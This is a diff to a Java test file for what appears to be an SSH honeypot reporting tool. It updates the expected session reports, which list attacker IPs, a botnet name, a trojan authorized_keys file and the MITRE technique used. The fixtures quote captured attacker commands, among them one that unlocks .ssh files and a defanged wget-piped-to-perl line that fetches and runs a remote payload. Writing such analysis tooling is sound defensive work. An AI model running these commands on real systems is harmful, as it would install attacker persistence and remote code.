@@ -34,32 +34,40 @@ class AssessedFormatsTest {
     private static final ObjectMapper JSON = new ObjectMapper();
 
     @Test
-    void tellTheVerdictBehindTheCommandsInTheDiary() {
-        assertThat(write(Reports.diary(), Assessed.diary().subList(0, 1))).contains("""
+    void openTheBlockOfTheDiary() {
+        assertThat(write(Reports.diary(), Assessed.diary().subList(0, 1)))
+                .startsWith("""
+                fd5ac84ee8f9   2023-05-24 06:23:58Z  ssh  10.4 s
+                Who            likely automated (score -2.5): commands without a terminal · client plain
+                Known          outlaw-mdrfckr · tool echo-xsec · 01ba4719c80b… is one newline
+                From           142.93.64.69  US  AS14061 DIGITALOCEAN-ASN
+                Infrastructure hosting (spur), perhaps residential-proxy (spur)
+                Got in         root / Admin123$
+                Did            19 commands (1 failed), came as far as persistence
+                               persistence: T1098.004 SSH Authorized Keys
+                Left           authorized_keys  a8460f446be5…  21 of 21 engines, trojan.shell/linux (virustotal)
+                               hosts.deny  01ba4719c80b…
+                Unusual        45 of 100: no scanner knows a file: plain
+                Seen before    7 before from 3 addresses since 2023-05-20, the same commands: outlaw-mdrfckr
+                No answer      not listed: urlhaus (client, file), virustotal
+
+                                       Session  fd5ac84ee8f9
+                """)
+                .contains("""
                             Total Commands Run  19 (1 failed)
                                        Verdict  likely automated (score -2.5)
-                                       Because  commands without a terminal; client plain
-                                  Network Kind  hosting
-                               Known Artefacts  outlaw-mdrfckr; tool echo-xsec; 01ba4719c80b… is one newline
-                              Similar Sessions  7 before from 3 addresses since 2023-05-20, the same commands: outlaw-mdrfckr
-                                       Unusual  45 of 100: no scanner knows a file: plain
-                                Furthest Stage  persistence
-                                    Techniques  persistence: T1098.004 SSH Authorized Keys
                 """);
     }
 
     @Test
     void nameTheTwinInTheDiary() {
         String text = write(Reports.diary(), Assessed.diary().subList(0, 2));
-        assertThat(text).containsOnlyOnce("Same Commands Before  fd5ac84ee8f9 (10.40 s)\n");
+        assertThat(text).containsOnlyOnce("same commands: fd5ac84ee8f9 (10.40 s)\n");
     }
 
     @Test
     void changeNothingInTheDiaryButTheirLines() {
-        String labels =
-                "Verdict|Because|Network Kind|Network Kind Hint|Known Artefacts|Similar Sessions|Unusual|Furthest Stage|Techniques"
-                        + "|Same Commands Before";
-        String lines = "(?m)^ +(?:" + labels + ")  .*\n";
+        String lines = "(?m)^(?:Who|Known|Did|Unusual|Seen before| {14}| *Verdict) .*\n";
         assertThat(write(Reports.diary(), Assessed.diary()).replaceAll(lines, ""))
                 .isEqualTo(write(Reports.diary(), Diary.sessions()).replaceAll(lines, ""));
     }
@@ -68,7 +76,10 @@ class AssessedFormatsTest {
     void keepFiveLinesInTheBriefDiary() {
         String text =
                 write(Reports.diary().summary(false).brief(), Assessed.diary().subList(0, 1));
-        assertThat(text.lines()).hasSize(5).first().isEqualTo("fd5ac84ee8f9  ssh  10.40 s  likely automated");
+        assertThat(text.stripTrailing().lines())
+                .hasSize(5)
+                .first()
+                .isEqualTo("fd5ac84ee8f9  ssh  10.40 s  likely automated");
     }
 
     @Test
@@ -86,7 +97,7 @@ class AssessedFormatsTest {
     @Test
     void areRowsInMarkdown() {
         assertThat(write(Reports.markdown(), Assessed.diary().subList(0, 1)))
-                .contains("| Verdict | likely automated \\(score \\-2\\.5\\) |\n");
+                .contains("| Verdict | likely automated (score -2.5) |\n");
     }
 
     @Test
@@ -103,9 +114,12 @@ class AssessedFormatsTest {
                 """, """
                 What Is Unusual
                 ---------------
-                        60  909bea239054  no scanner knows a file: x
-                        20  fd5ac84ee8f9  no scanner knows a file: x
-                        20  8d39860bce79  no scanner knows a file: x
+                        60  909bea239054  43.154.116.34  likely automated  no scanner knows a file: x
+                            # cd ~; chattr -ia .ssh; lockr -ia .ssh
+                        20  fd5ac84ee8f9  142.93.64.69  likely automated  no scanner knows a file: x
+                            # cd ~; chattr -ia .ssh; lockr -ia .ssh
+                        20  8d39860bce79  45.79.54.105  likely automated  no scanner knows a file: x
+                            # wget -qO - 103[.]52[.]134[.]51/csx/perlNIK|perl
                   why, of all sessions:
                          3  unknown-file
                 """, "         3  T1098.004 Account Manipulation: SSH Authorized Keys\n")
@@ -188,10 +202,9 @@ class AssessedFormatsTest {
                 .build();
 
         assertThat(write(Reports.diary(), List.of(alone)))
-                .contains("Similar Sessions  none before in 1,200 sessions since 2023-05-20\n");
-        assertThat(write(Reports.diary(), List.of(fresh))).contains("Similar Sessions  none before in this input\n");
-        assertThat(write(Reports.diary(), List.of(again)))
-                .contains("Similar Sessions  7 others from 3 addresses since");
+                .contains("Seen before    none before in 1,200 sessions since 2023-05-20\n");
+        assertThat(write(Reports.diary(), List.of(fresh))).contains("Seen before    none before in this input\n");
+        assertThat(write(Reports.diary(), List.of(again))).contains("Seen before    7 others from 3 addresses since");
     }
 
     @Test
@@ -205,7 +218,7 @@ class AssessedFormatsTest {
                         Reports.diary(),
                         List.of(Assessment.builder(unasked, known.operator(), unsaid)
                                 .build())))
-                .contains("Network Kind  unknown (no list or source was asked; see lists)\n");
+                .contains("Infrastructure unknown (no list or source was asked; see lists)\n");
     }
 
     static List<ReportFormat> formats() {
